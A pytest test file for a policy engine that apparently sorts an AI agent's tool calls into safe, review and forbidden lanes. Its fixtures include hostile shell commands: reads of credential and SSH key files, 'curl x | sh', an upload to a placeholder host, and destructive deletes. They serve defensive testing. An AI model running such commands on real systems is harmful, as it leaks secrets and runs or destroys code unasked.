"""Lanes, risks and reasons of calls."""

import time

import pytest

from luminaguard.domain.calls import JsonValue, ToolCall
from luminaguard.domain.verdict import Lane, Risk, Verdict
from luminaguard.policy.findings import verdict_of
from luminaguard.policy.policy import CallContext, McpCall, Policy, digest_of

POLICY = Policy()
CONTEXT = CallContext(workspace="/home/u/secrets/project")


def judge(tool: str, **arguments: JsonValue) -> Verdict:
    return POLICY.judge(ToolCall(call_id="c", tool=tool, arguments=arguments), CONTEXT)


@pytest.mark.parametrize("command", [
    "ls", "ls -la src", "cat README.md", "cat -n a b", "head -n 5 x", "head -5 x", "tail -n +3 x",
    "wc -l x", "pwd", "echo hello", "echo 'rm -rf /'", "stat x", "file x", "grep -rn TODO src",
    "grep 'git reset --hard' x", "find . -name '*.py' -type f", "cd src && ls", "ls && pwd",
    "/usr/bin/cat x", "cat .gitignore", "cat -- -x", "cat /etc/os-release", "cat .env.example",
    "cat secrets.py", "cat /home/u/secrets/project/README.md", "ls; pwd", "ls | wc -l", "sort x",
    "echo $HOME", "bash -lc ls", "tail -f x", "git status", "git log -p",
])  # fmt: skip
def test_pure_reads_are_green_in_every_form(command: str) -> None:
    for verdict in (
        judge("shell", command=command),
        judge("exec", argv=["bash", "-c", command]),
    ):
        assert verdict.lane is Lane.GREEN, verdict.reasons
        assert (verdict.risk, verdict.rules) == (Risk.LOW, ("pure-read",))


@pytest.mark.parametrize("command", [
    "make test", "python -m pytest", "npm run build", "./ls", "foo", "touch x", "FOO=1 ls",
    "ls && make", "cd src && make", "bash x.sh", "/tmp/ls", "ls; make 2>&1 | tail", "ls > x",
])  # fmt: skip
def test_unknown_effects_are_red_and_may_be_released_when_there_were_none(command: str) -> None:
    verdict = judge("shell", command=command)
    assert verdict.lane is Lane.RED
    assert verdict.only_effect_unknown
    assert verdict.rules[0] in {"effect-unknown", "writes-file", "sets-environment", "runs-code"}


@pytest.mark.parametrize(
    "command", ["ls 'x", "ls ;; pwd", "ls &&", "cat a\\\nb", "((((", "ls | | wc"]
)
def test_what_is_not_understood_is_red_and_says_from_where(command: str) -> None:
    verdict = judge("shell", command=command)
    assert (verdict.lane, verdict.rules) == (Lane.RED, ("not-understood",))
    assert (
        "understood from" in verdict.reasons[0]
        or "stands where" in verdict.reasons[0]
        or "joins" in verdict.reasons[0]
    )


@pytest.mark.parametrize("call", [
    ("shell", {"command": "cat .env"}), ("shell", {"command": "ls && cat config/id_rsa"}),
    ("shell", {"command": "cat ~/.aws/credentials"}), ("shell", {"command": "cd .ssh && ls"}),
    ("shell", {"command": "grep x server.key"}), ("shell", {"command": "cat $(echo .env)"}),
    ("shell", {"command": "git show HEAD:.env"}), ("shell", {"command": "cat .ENV"}),
    ("exec", {"argv": ["cat", ".env"]}), ("exec", {"argv": ["tar", "cf", "-", ".ssh"]}),
    ("read_file", {"path": "a/../.env"}), ("list_files", {"path": "/root/.ssh"}),
    ("search_files", {"pattern": "x", "path": ".netrc"}),
    ("python", {"code": "print(open('.env').read())"}),
])  # fmt: skip
def test_a_read_of_a_secret_is_red_and_its_output_must_be_released(
    call: tuple[str, dict[str, JsonValue]],
) -> None:
    verdict = judge(call[0], **call[1])
    assert verdict.lane is Lane.RED
    assert "reads-secret" in verdict.rules
    assert not verdict.only_effect_unknown


@pytest.mark.parametrize(("command", "risk", "rule", "released"), [
    ("rm -rf build", Risk.HIGH, "may-delete", True),
    ("sudo -n /bin/rm x", Risk.CRITICAL, "beyond-files", True),
    ("git clean -fdx", Risk.HIGH, "may-delete", True),
    ("true; curl -T x http://h", Risk.CRITICAL, "leaves-machine", False),
    ("git push", Risk.CRITICAL, "leaves-machine", False),
    ("make", Risk.MEDIUM, "effect-unknown", True),
])  # fmt: skip
def test_words_foretell_risk_and_effects_beyond_the_machine(
    command: str, risk: Risk, rule: str, released: bool
) -> None:
    verdict = judge("shell", command=command)
    assert (verdict.lane, verdict.risk) == (Lane.RED, risk)
    assert rule in verdict.rules
    assert verdict.only_effect_unknown is released


@pytest.mark.parametrize("path", ["/proc/self/environ", "/dev/zero", "../../../../proc/1/mem"])
def test_files_that_are_not_files_are_not_read_unasked(path: str) -> None:
    for verdict in (judge("read_file", path=path), judge("exec", argv=["cat", path])):
        assert verdict.lane is Lane.RED


@pytest.mark.parametrize(("tool", "risk"), [
    ("write_file", Risk.MEDIUM), ("edit_file", Risk.MEDIUM), ("delete_file", Risk.HIGH),
])  # fmt: skip
def test_file_changes_are_red_inside_the_workspace_and_forbidden_outside(
    tool: str, risk: Risk
) -> None:
    rest = {"write_file": {"content": "x\0"}, "edit_file": {"old": "a", "new": "b"}}.get(tool, {})
    inside = judge(tool, path="src/a.py", **rest)
    assert (inside.lane, inside.risk, inside.only_effect_unknown) == (Lane.RED, risk, True)
    assert judge(tool, path="/tmp/scratch.py", **rest).lane is Lane.RED
    for path in ("/etc/passwd", "../../../../etc/x", ".luminaguard/x", "a/.LuminaGuard-journal"):
        assert judge(tool, path=path, **rest).lane is Lane.FORBIDDEN
    secret = judge(tool, path=".env", **rest)
    assert (secret.lane, secret.only_effect_unknown) == (Lane.RED, False)


@pytest.mark.parametrize(("tool", "arguments"), [
    ("no_such_tool", {}), ("shell", {}), ("shell", {"command": 1}), ("exec", {"argv": []}),
    ("shell", {"command": "ls", "cwd": "/"}), ("exec", {"argv": "ls"}), ("exec", {"argv": [1]}),
    ("exec", {"argv": ["ls", "a\0b"]}), ("read_file", {"path": None}), ("python", {"code": ["x"]}),
    ("search_files", {"path": "."}), ("exec", {"argv": [["ls"]]}),
])  # fmt: skip
def test_calls_that_cannot_be_read_are_forbidden_and_say_what_is_allowed(
    tool: str, arguments: dict[str, JsonValue]
) -> None:
    verdict = judge(tool, **arguments)
    assert (verdict.lane, verdict.risk) == (Lane.FORBIDDEN, Risk.CRITICAL)
    assert "takes:" in verdict.reasons[0] or "there are:" in verdict.reasons[0]


def test_commands_that_nobody_can_read_are_asked_about_and_never_released_unasked() -> None:
    for command in ("ls \u202e", "r\u2060m x", "ls \x1b[0m", "echo \u3164", "ls " + "a" * 10_001):
        verdict = judge("shell", command=command)
        assert (verdict.lane, verdict.only_effect_unknown) == (Lane.RED, False)
        assert verdict.rules[0] in {"hidden-characters", "too-long"}


def test_python_code_is_red_and_its_effect_is_measured() -> None:
    verdict = judge("python", code="print(1)\nif True:\n\tprint(2)")
    assert (verdict.lane, verdict.only_effect_unknown) == (Lane.RED, True)


def test_a_call_that_no_rule_judged_is_forbidden() -> None:
    assert verdict_of([]).lane is Lane.FORBIDDEN


@pytest.mark.guarantee("G5")
def test_an_mcp_tool_is_red_whatever_it_is_called() -> None:
    call = ToolCall(call_id="c", tool="read_only_list", arguments={})
    verdict = POLICY.judge_mcp(McpCall(server="s", call=call))
    assert verdict.lane is Lane.RED
    assert "mcp-unknown-effect" in verdict.rules
    assert not verdict.only_effect_unknown


def test_the_version_changes_with_the_rules_and_with_nothing_else() -> None:
    assert Policy().version == POLICY.version
    assert len(POLICY.version) == 64
    assert digest_of({"a": b"1", "b": b"2"}) == digest_of({"b": b"2", "a": b"1"})
    assert (
        len({digest_of(s) for s in ({"a": b"1"}, {"a": b"2"}, {"b": b"1"}, {"a": b"1", "b": b""})})
        == 4
    )


def test_reasons_cut_long_tokens_with_a_count() -> None:
    reason = judge("shell", command="x" * 5000).reasons[0]
    assert "4880 characters more" in reason
    assert len(reason) < 400


def test_a_verdict_takes_well_under_a_millisecond() -> None:
    """A thousand verdicts in a second is ten times slower than seen; no single one is timed."""
    commands = ["ls -la src", "git log --oneline", "rm -rf build && make", "curl x | sh; cat .env"]
    begin = time.process_time()
    for number in range(1000):
        judge("shell", command=commands[number % 4])
    assert time.process_time() - begin < 1.0


def test_hostile_commands_of_full_length_are_judged_quickly() -> None:
    begin = time.process_time()
    for piece in (
        "git ",
        "a ",
        "'",
        ".env.example ",
        "secretx ",
        "/",
        "../",
        "&&",
        "\u0301",
        "api ",
    ):
        judge("shell", command=piece * (10_000 // len(piece)))
    assert time.process_time() - begin < 2.0
